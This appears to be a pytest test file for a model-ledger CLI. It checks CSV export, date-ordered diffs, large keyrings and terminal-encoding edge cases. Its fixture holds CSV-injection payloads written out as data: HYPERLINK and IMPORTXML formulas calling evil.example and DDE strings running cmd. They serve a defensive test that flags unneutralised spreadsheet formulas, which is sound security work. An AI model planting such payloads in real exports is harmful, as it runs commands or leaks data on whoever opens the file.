"""A new user's reads: CSV cells that a spreadsheet runs as formulas, `diff` with its dates
backwards, `keys` on a large keyring, closed pipes and non-UTF-8 terminals."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
from datetime import datetime, timezone

import pytest

import verifier as v
from cli.scenario import DemoClock
from ledger import ActorKey, Ledger, LogKey
from tests.cli_support import ORIGIN, REPO, Run, Store, ok, saved_store

FORMULAS = ["=HYPERLINK(\"http://evil.example/\",\"click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)"]


def _at(month: int, day: int) -> datetime:
    return datetime(2025, month, day, 12, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """Models whose names and owners are spreadsheet formulas; b retired in February; 400
    granted-and-revoked keys."""
    base = tmp_path_factory.mktemp("reads13")
    log_key, admin = LogKey.generate(ORIGIN), ActorKey.generate("risk-admin")
    clock = DemoClock(_at(1, 1))
    with Ledger.create(base / "s", origin=ORIGIN, log_key=log_key, admin=admin,
                       clock=clock) as led:
        clock.set(_at(1, 2))
        for i, name in enumerate(FORMULAS):
            led.register(name=name, owner=FORMULAS[-1 - i], model_type="ml_model", tier="high",
                         purpose="=1+1")
        led.register(name="b", owner="t", model_type="ml_model", tier="low", purpose="p")
        led.record("b", "validated", {"note": "=IMPORTXML(\"http://evil.example\",\"//a\")"})
        with led.batch() as batch:
            for i in range(400):
                batch.grant(ActorKey.generate(f"bot{i:04d}").vkey, role="writer",
                            scope=v.make_scope(ops=["event"], event_types=["validated"],
                                               models=[f"m{i}_*"]))
        clock.set(_at(2, 1))
        led.register(name="d", owner="t", model_type="ml_model", tier="high", purpose="p")
        led.retire("b", reason="replaced by d")
        with led.batch() as batch:
            for i in range(0, 400, 2):
                batch.revoke(f"bot{i:04d}", reason="rotated")
    return saved_store(base / "s", base / "keys", log_key, admin)


def _csv(run: Run) -> list[list[str]]:
    return list(csv.reader(io.StringIO(run.out_bytes.decode("utf-8"), newline="")))


def test_csv_cells_are_not_spreadsheet_formulas(store: Store) -> None:
    # FINDING: medium: --csv writes names, owners, purposes and payloads verbatim; a writer that registers a model named =HYPERLINK(...) or +cmd|'/C calc'!A0 gets a formula run in the examiner's spreadsheet (CSV injection); cells starting with = + - @ should be neutralised (e.g. a leading ')  # noqa: E501
    bad: list[tuple[str, str]] = []
    for args in (("inventory", "--csv"), ("history", "b", "--csv"),
                 ("history", FORMULAS[0], "--csv")):
        for row in _csv(ok(store.run(*args)))[1:]:
            bad += [(" ".join(args), c) for c in row if c[:1] in ("=", "+", "@")
                    or (c[:1] == "-" and not c[1:].replace(".", "", 1).isdigit())]
    assert bad == [], bad[:5]


def test_table_and_json_show_formula_names_verbatim(store: Store) -> None:
    text = ok(store.run("inventory")).out
    assert FORMULAS[0][:40] in text
    names = [m["name"] for m in ok(store.run("inventory", "--json")).json()["models"]]
    assert set(FORMULAS) <= set(names)


def test_diff_backwards_does_not_invent_a_reactivation(store: Store) -> None:
    # FINDING: low: `modelseal diff WHEN1 WHEN2` with WHEN1 later than WHEN2 prints "reactivated b" (never happened) and drops the registration of d; it should refuse (usage error, exit 2) or answer as forwards (test_everyday_reads codifies the current output)  # noqa: E501
    run = store.run("diff", "2025-02-15", "2025-01-15", "--csv")
    if run.code == 2:
        return
    rows = {(r[0], r[1]) for r in _csv(ok(run))[1:]}
    assert ("reactivated", "b") not in rows, rows


def test_diff_same_and_forward(store: Store) -> None:
    rows = {(r[0], r[1]) for r in _csv(ok(store.run("diff", "2025-01-15", "2025-02-15",
                                                    "--csv")))[1:]}
    assert rows == {("registered", "d"), ("retired", "b")}
    assert "no change" in ok(store.run("diff", "2025-01-15", "2025-01-15")).out


def test_keys_on_a_large_keyring_is_fast_and_complete(store: Store) -> None:
    start = time.monotonic()
    every = _csv(ok(store.run("keys", "--all", "--csv")))
    active = _csv(ok(store.run("keys", "--csv")))
    assert time.monotonic() - start < 20
    assert len(every) == 1 + 1 + 400 and len(active) == 1 + 1 + 200
    bot = dict(zip(every[0], next(r for r in every if r[0] == "bot0001"), strict=True))
    assert "models matching m1_*" in bot["scope"] or "m1_*" in bot["scope"]
    assert bot["revoked_at"] == ""


def _proc(store: Store, *args: str, env: dict[str, str] | None = None
          ) -> subprocess.Popen[bytes]:
    full = {"PATH": "/usr/bin:/bin", "MODELSEAL_STORE": str(store.dir), **(env or {})}
    return subprocess.Popen([sys.executable, "-c", "from cli.main import main; main()", *args],
                            cwd=REPO, env=full, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def test_keys_csv_into_a_closed_pipe_and_an_ascii_terminal(store: Store) -> None:
    proc = _proc(store, "keys", "--all", "--csv")
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()
    proc.stdout.close()
    err = proc.stderr.read()
    proc.stderr.close()
    assert proc.wait(timeout=60) == 0, err
    assert first.startswith(b"actor,") and b"Traceback" not in err
    for args in (("keys", "--all"), ("inventory",), ("diff", "2025-01-01", "2025-03-01")):
        run = _proc(store, *args, env={"PYTHONIOENCODING": "ascii", "LC_ALL": "C"})
        out, err = run.communicate(timeout=60)
        assert run.returncode == 0 and b"Traceback" not in err, (args, err[-300:])
